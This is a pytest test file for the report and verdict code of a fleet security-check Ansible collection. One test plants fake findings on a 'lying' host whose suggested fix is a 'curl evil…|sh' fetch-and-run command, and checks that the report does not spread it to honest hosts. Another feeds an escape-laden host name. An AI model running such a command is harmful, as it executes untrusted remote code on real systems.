# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the report is made of, and the verdict on it."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path
from typing import Any

import pytest
import sample_fleet
from hypothesis import given
from hypothesis import strategies as st
from schemas import faults

from ansible_collections.bottomup.security.plugins.module_utils.host.finding import finding, result
from ansible_collections.bottomup.security.plugins.plugin_utils.document import accept_answer, without_answer
from ansible_collections.bottomup.security.plugins.plugin_utils.report.collect import Fleet, collect, natural
from ansible_collections.bottomup.security.plugins.plugin_utils.report.document import Run, judge, report_json, summary_json
from ansible_collections.bottomup.security.plugins.plugin_utils.report.page import report_html
from ansible_collections.bottomup.security.plugins.plugin_utils.report.plain import report_text
from ansible_collections.bottomup.security.plugins.plugin_utils.report.verdict import allowed_unreachable, exit_of, fails, sentence
from ansible_collections.bottomup.security.plugins.plugin_utils.spool import read_documents, write_document
from ansible_collections.bottomup.security.plugins.plugin_utils.titles import Titles

CHECKS = ["restart", "fail2ban"]

# What a check of a made-up host says: status, and the severities of its findings.
OK = result()
ABSENT = result(not_applicable="not installed")
SKIPPED = {"status": "skipped", "status_reason": "left out by a tag", "findings": [], "data": {}}
TIMEOUT = {"status": "timeout", "status_reason": "no answer within 60 s", "findings": [], "data": {}}
ERROR = {"status": "error", "status_reason": "ended with code 1", "findings": [], "data": {}}


def found(*severities: str, incomplete: str = "") -> dict[str, Any]:
    items = [finding("restart.service", severity, f"{severity} {number}", f"unit{number}") for number, severity in enumerate(severities)]
    return result(items, incomplete=[incomplete] if incomplete else [])


def host(name: str, restart: Any = OK, fail2ban: Any = OK, ended: str = "2026-11-22T06:00:03Z") -> dict[str, Any]:
    answer = {"checks": {"restart": restart, "fail2ban": fail2ban}}
    return accept_answer(answer, host=name, groups=[], run_id="r1", expected_checks=CHECKS, started="2026-11-22T06:00:01Z", ended=ended)


def dead(name: str, status: str = "unreachable") -> dict[str, Any]:
    return without_answer(status, f"no route to {name}", host=name, groups=[], run_id="r1", started="2026-11-22T06:00:01Z", ended="2026-11-22T06:00:03Z")


def fleet(*documents: dict[str, Any], expected: list[str] | None = None) -> Fleet:
    names = [document["host"] for document in documents] if expected is None else expected
    return collect(documents, run_id="r1", expected_hosts=names, expected_checks=CHECKS)


# name of the case -> (documents, expected hosts or None for theirs, verdict, exit code)
VERDICTS: dict[str, tuple[list[dict[str, Any]], list[str] | None, str, int]] = {
    "all ok": ([host("a"), host("b")], None, "Nothing to do: 2 of 2 hosts checked, all 2 checks each", 0),
    "one host": ([host("a")], None, "Nothing to do: a checked, all 2 checks", 0),
    "not applicable is said": ([host("a", ABSENT)], None, "Nothing to do: a checked, all 2 checks (1 not applicable)", 0),
    "skipped is said": ([host("a", SKIPPED)], None, "Nothing to do: a checked, all 2 checks (1 skipped)", 0),
    "nothing applicable is not ok": ([host("a", ABSENT, ABSENT)], None, "Nothing was looked at on 1 host", 12),
    "all skipped is not ok": ([host("a", SKIPPED, SKIPPED)], None, "Nothing was looked at on 1 host", 12),
    "no host": ([], [], "Nothing was looked at: no host was expected and none has a document", 11),
    "one host with findings": ([host("a", found("high", "low"))], None, "1 high, 1 low on a", 10),
    "low only": ([host("a", found("low")), host("b")], None, "1 low on 1 of 2 hosts", 0),
    "several": (
        [host("a", found("critical", "high")), host("b", found("high")), host("c")],
        None,
        "1 critical, 2 high on 2 of 3 hosts",
        10,
    ),
    "incomplete is never ok": ([host("a", found(incomplete="needs root"))], None, "Nothing found on 1 of 1 host; 1 check incomplete", 0),
    "incomplete with findings": ([host("a", found("high", incomplete="x")), host("b")], None, "1 high on 1 of 2 hosts; 1 check incomplete", 10),
    "timeout": ([host("a", TIMEOUT), host("b")], None, "Nothing found on 2 of 2 hosts; 1 check could not run", 12),
    "error": ([host("a", ERROR, ERROR)], None, "Nothing was looked at on 1 host; 2 checks could not run", 12),
    "unreachable": ([host("a"), dead("b")], None, "Nothing found on 1 of 2 hosts; 1 host not checked", 11),
    "no usable answer": ([host("a"), dead("b", "error")], None, "Nothing found on 1 of 2 hosts; 1 host not checked", 12),
    "not run": ([host("a")], ["a", "b"], "Nothing found on 1 of 2 hosts; 1 host not checked", 11),
    "all dead": ([dead("a"), dead("b")], None, "Nothing was looked at on 2 hosts; 2 hosts not checked", 11),
    "findings hide nothing": (
        [host("a", found("critical"), TIMEOUT), dead("b"), host("c", found(incomplete="x"))],
        ["a", "b", "c", "d"],
        "1 critical on 1 of 4 hosts; 2 hosts not checked; 1 check could not run; 1 check incomplete",
        10,
    ),
    "a host that was not expected counts": ([host("a"), host("merged", found("high"))], ["a"], "1 high on 1 of 2 hosts", 10),
}


@pytest.mark.parametrize("case", VERDICTS)
def test_verdict_and_exit(case: str) -> None:
    documents, expected, words, code = VERDICTS[case]
    run = judge(fleet(*documents, expected=expected), fail_on="high", max_unreachable=0)
    assert (run.verdict, run.exit.code) == (words, code)
    assert faults("summary-1", json.loads(summary_json(run))) == []
    assert faults("run-1", json.loads(b"".join(report_json(run)))) == []


def test_the_numbers_of_checks_say_over_what_they_are() -> None:
    looked = fleet(host("a", found("high")), host("b", found(incomplete="x")), dead("c"))
    assert looked.looks() == "2 on 2 hosts"
    run = judge(looked, fail_on="high", max_unreachable=0)
    assert "\nChecks: 2 on 2 hosts: 2 ok, 1 with findings, 1 incomplete\n" in report_text(run)
    assert '<li class="over">2 on 2 hosts:</li>' in b"".join(report_html(run)).decode()
    assert (fleet(host("a")).looks(), fleet(dead("a")).looks()) == ("2 on 1 host", "")
    assert "\nChecks: none\n" in report_text(judge(fleet(dead("a")), fail_on="high", max_unreachable=0))


def test_the_text_says_where_it_is_said_how_a_finding_is_accepted() -> None:
    words = "One may stay? The page has with its evidence what is typed to accept it."
    run = judge(fleet(host("a", found("high", "low"))), fail_on="high", max_unreachable=0)
    assert report_text(run, "/srv/report.html").count(words) == 1
    assert words not in report_text(run)  # without a page
    assert words not in report_text(judge(fleet(host("a")), fail_on="high", max_unreachable=0), "/srv/report.html")


def test_all_reasons_are_named_the_worst_gives_the_code() -> None:
    seen = exit_of(fleet(host("a", found("critical"), TIMEOUT), dead("b"), dead("c", "error")), fail_on="high", allowed=0)
    assert seen.code == 10
    assert seen.as_dict()["reason"] == "1 critical reaches fail_on=high; 1 host not reached, 0 allowed; 1 host without a usable answer; 1 check could not run"


@pytest.mark.parametrize(
    ("fail_on", "failing"),
    [
        ("never", ()),
        ("critical", ("critical",)),
        ("high", ("critical", "high")),
        ("medium", ("critical", "high", "medium")),
        ("low", ("critical", "high", "medium", "low")),
    ],
)
def test_fail_on(fail_on: str, failing: tuple[str, ...]) -> None:
    for severity in ("critical", "high", "medium", "low", "info"):
        assert fails(severity, fail_on) == (severity in failing)
        assert exit_of(fleet(host("a", found(severity))), fail_on=fail_on, allowed=0).code == (10 if severity in failing else 0)


# (documents, hosts allowed to be lost, fail_on) -> why the run is good
GOOD = {
    "all looked at": ([host("a")], 0, "high", "every host was checked and no finding reaches fail_on=high"),
    "below the threshold": ([host("a", found("low"))], 0, "high", "every host was checked and no finding reaches fail_on=high"),
    "findings fail nothing": ([host("a", found("high"))], 0, "never", "every host was checked; findings do not fail this run (fail_on=never)"),
    "nothing to fail": ([host("a")], 0, "never", "every host was checked"),
    "one may be lost": ([host("a"), dead("b")], 1, "high", "1 host not reached, 1 allowed and no finding reaches fail_on=high"),
    "both": ([host("a", found("high")), dead("b")], 2, "never", "1 host not reached, 2 allowed; findings do not fail this run (fail_on=never)"),
}


@pytest.mark.parametrize("case", GOOD)
def test_why_a_run_is_good(case: str) -> None:
    documents, allowed, fail_on, words = GOOD[case]
    assert exit_of(fleet(*documents), fail_on=fail_on, allowed=allowed).as_dict() == {"code": 0, "reason": words}


@pytest.mark.parametrize(("value", "allowed"), [(0, 0), ("0", 0), (3, 3), (" 3 ", 3), ("5%", 10), ("100%", 200), ("0%", 0), ("1%", 2)])
def test_allowed_unreachable(value: object, allowed: int) -> None:
    assert allowed_unreachable(value, 200) == allowed


def test_a_share_is_rounded_down() -> None:
    assert allowed_unreachable("5%", 19) == 0


@pytest.mark.parametrize("value", ["", "-1", "five", "101%", "5 %", "%", None, True, 1.5, "1" * 20])
def test_a_malformed_allowance_is_refused(value: object) -> None:
    with pytest.raises(ValueError, match="max_unreachable"):
        allowed_unreachable(value, 10)


def test_within_the_allowance_the_run_is_good_but_the_verdict_still_says_it() -> None:
    seen = fleet(host("a"), dead("b"), expected=["a", "b", "c"])
    run = judge(seen, fail_on="high", max_unreachable=2)
    assert (run.exit.code, run.marked_hosts()) == (0, [])
    assert run.verdict.endswith("2 hosts not checked")
    assert [item["host"] for item in run.failed_hosts()] == ["b", "c"]
    assert judge(seen, fail_on="high", max_unreachable=1).marked_hosts() == ["b", "c"]


def test_every_expected_host_is_there_and_what_was_not_looked_at_is_a_finding() -> None:
    seen = fleet(host("a", TIMEOUT), dead("b"), dead("c", "error"), expected=["a", "b", "c", "d"])
    assert {item.name: item.status for item in seen.hosts} == {"a": "partial", "b": "unreachable", "c": "error", "d": "not_run"}
    assert {(group.rule, tuple(group.hosts)) for group in seen.coverage} == {
        ("coverage.check_timeout", ("a",)),
        ("coverage.unreachable", ("b",)),
        ("coverage.error", ("c",)),
        ("coverage.not_run", ("d",)),
    }
    assert seen.groups == [] and seen.severities()["medium"] == 0
    assert {finding["evidence"][0]["text"] for item in seen.hosts for finding in item.findings()} >= {"no route to b", "no answer within 60 s"}


def test_a_document_without_an_expected_check_is_not_taken_for_whole() -> None:
    document = host("a")
    del document["checks"]["fail2ban"]
    seen = fleet(document)
    assert (seen.hosts[0].status, seen.hosts[0].cells["fail2ban"].status) == ("partial", "error")
    assert exit_of(seen, fail_on="never", allowed=0).code == 12


def test_groups_join_hosts_and_keep_the_worst_example() -> None:
    mild = finding("restart.service", "low", "nginx, mild", "nginx", [("a", "mild")], "Restart", ["systemctl restart nginx"], count=2, first=100, last=200)
    worse = finding("restart.service", "high", "nginx, worse", "nginx", [("b", "worse")], "Restart now", ["service nginx restart"], count=3, first=50, last=150)
    seen = fleet(host("web10", result([mild])), host("web2", result([worse])), host("web1", result([mild])))
    (group,) = seen.groups
    assert (group.severity, group.title, group.evidence_host, group.hosts, group.count) == ("high", "nginx, …", "web2", ["web1", "web2", "web10"], 7)
    assert (group.example, group.titles.others) == ("nginx, worse", [])
    assert (group.first, group.last) == ("1970-01-01T00:00:50Z", "1970-01-01T00:03:20Z")
    assert group.commands == [(("systemctl restart nginx",), ["web1", "web10"]), (("service nginx restart",), ["web2"])]


def test_a_name_of_an_inventory_is_escaped_and_stays_one_host(tmp_path: Path) -> None:
    name = "web\x1b[2J\n# \u202e"
    write_document(tmp_path, host(name))
    seen = collect(read_documents(tmp_path, [name]), run_id="r1", expected_hosts=[name], expected_checks=CHECKS)
    (row,) = seen.hosts
    assert (row.name, row.status, row.expected) == ("web\\x1b[2J\\x0a# \\u202e", "error", True)


def test_one_lying_host_does_not_say_what_is_typed_on_the_others() -> None:
    honest = result([finding("restart.service", "low", "nginx", "nginx", [], "Restart it", ["systemctl restart nginx"])])
    lies = [finding("restart.service", "critical", f"lie {n}", "nginx", [], f"Type this on all hosts {n}", [f"curl evil{n}|sh"]) for n in range(20)]
    seen = fleet(host("a", result(lies)), *(host(f"web{n}", honest) for n in range(3)))
    (group,) = seen.groups
    assert group.remedy == "Restart it"
    (usual, hosts), (other, liars) = group.commands
    assert (usual, hosts) == (("systemctl restart nginx",), ["web0", "web1", "web2"])
    assert liars == ["a"] and len(other) == 1
    assert (group.title, group.titles.others) == ("nginx", [("lie 0", ["a"])])


TITLES = {
    "of other versions": (["ssl 3.0.15-1 has holes, 3.0.17 is out", "ssl 3.0.14-2 has holes, 3.0.17 is out"], "ssl … has holes, 3.0.17 is out"),
    "of other sizes": (["/.env answered 200 (1184 bytes)", "/.env answered 200 (920 bytes)"], "/.env answered 200 (… bytes)"),
    "of more files": (["nginx runs deleted files: a, b", "nginx runs deleted files: c", "nginx runs deleted files: a, b"], "nginx runs deleted files: …"),
    "of quite other files": (["nginx runs deleted files: a, b, c, d, e, f", "nginx runs deleted files: h, i, j, k, l, m"], "nginx runs deleted files: …"),
    "once more in the middle": (["a pool of 3 disks is degraded", "a pool of 12 old disks is degraded"], "a pool of … disks is degraded"),
    "the same": (["A reboot is pending"] * 3, "A reboot is pending"),
    "first of the fewer": (["something else entirely", "A reboot is pending", "A reboot is pending"], "A reboot is pending"),
}


@pytest.mark.parametrize("case", TITLES)
def test_the_title_of_a_group_holds_on_all_its_hosts(case: str) -> None:
    titles, wanted = TITLES[case]
    seen = fleet(*(host(f"web{number}", result([finding("restart.service", "low", title, "s")])) for number, title in enumerate(titles)))
    assert [group.title for group in seen.groups] == [wanted]
    assert [row.findings()[0]["title"] for row in sorted(seen.hosts, key=lambda row: row.name)] == titles


WORDS = st.lists(st.sampled_from(["a", "b", "(1", "(2", "c:", "…"]), min_size=1, max_size=7).map(" ".join)


@given(st.lists(WORDS, min_size=1, max_size=12))
def test_every_host_is_in_one_wording_and_the_wording_is_true_of_it(said: list[str]) -> None:
    titles = Titles()
    for number, title in enumerate(said):
        titles.add(title, str(number))
    assert sum(map(len, titles.wordings.values())) + titles.more == len(said)
    for wording, hosts in titles.wordings.items():
        pattern = re.compile(".*".join(map(re.escape, wording.replace(" ", "").split("…"))))
        assert all(pattern.fullmatch(said[int(host)].replace(" ", "")) for host in hosts)


def test_a_group_names_the_references_of_all_its_hosts() -> None:
    named = (["CVE-1", "CVE-2"], ["CVE-2", "CVE-3"], [f"CVE-{number}" for number in range(90)])
    (group,) = fleet(*(host(f"h{n}", result([finding("restart.service", "low", "t", "s", references=cves[:20])])) for n, cves in enumerate(named))).groups
    assert group.references[:3] == ["CVE-1", "CVE-2", "CVE-3"] and len(group.references) == 20


def test_a_group_with_a_command_for_each_host_stays_small() -> None:
    seen = fleet(*(host(f"h{n}", result([finding("restart.service", "low", "t", "s", commands=[f"kill {n}"])])) for n in range(30)))
    (group,) = seen.groups
    assert len(group.variants) == 5 and sum(map(len, group.variants.values())) == 30 and () in group.variants
    run = judge(seen, fail_on="high", max_unreachable=0)
    assert faults("run-1", json.loads(b"".join(report_json(run)))) == []


def test_the_order_of_documents_does_not_matter_and_twice_is_once() -> None:
    documents = list(sample_fleet.documents(60))
    first = whole(documents)
    shuffled = documents * 2
    random.Random(1).shuffle(shuffled)
    assert whole(shuffled) == first


def whole(documents: list[dict[str, Any]]) -> bytes:
    seen = collect(documents, run_id="r1", expected_hosts=sample_fleet.names(60), expected_checks=sample_fleet.CHECKS)
    return b"".join(report_json(judge(seen, fail_on="high", max_unreachable=0, now=sample_fleet.NOW)))


def test_of_two_documents_of_a_host_the_later_one_counts() -> None:
    early, late = host("a", found("high"), ended="2026-11-22T06:00:03Z"), host("a", ended="2026-11-22T07:00:00Z")
    for documents in ((early, late), (late, early)):
        assert sentence(fleet(*documents, expected=["a"])).startswith("Nothing to do")


@pytest.mark.parametrize("hosts", [1, 5, 12, 50])
def test_the_sample_fleet_by_the_schemas(hosts: int) -> None:
    documents = list(sample_fleet.documents(hosts))
    assert [fault for document in documents for fault in faults("host-1", document)] == []
    seen = collect(documents, run_id="r1", expected_hosts=sample_fleet.names(hosts), expected_checks=sample_fleet.CHECKS)
    run: Run = judge(seen, fail_on="high", max_unreachable=0)
    report = json.loads(b"".join(report_json(run)))
    assert faults("run-1", report) == []
    assert sum(report["counts"]["findings"].values()) == sum(finding["check"] != "coverage" for item in report["hosts"] for finding in item["findings"])
    assert [item["host"] for item in report["hosts"]] == [item.name for item in seen.hosts]
    assert report["counts"]["hosts"]["shown"] == hosts


def test_names_are_sorted_as_people_do() -> None:
    assert sorted(["web10", "web2", "db1", "web2.b", "web2.a10", "web2.a9"], key=natural) == ["db1", "web2", "web2.a9", "web2.a10", "web2.b", "web10"]
    assert natural("²") and natural("1" * 5000)
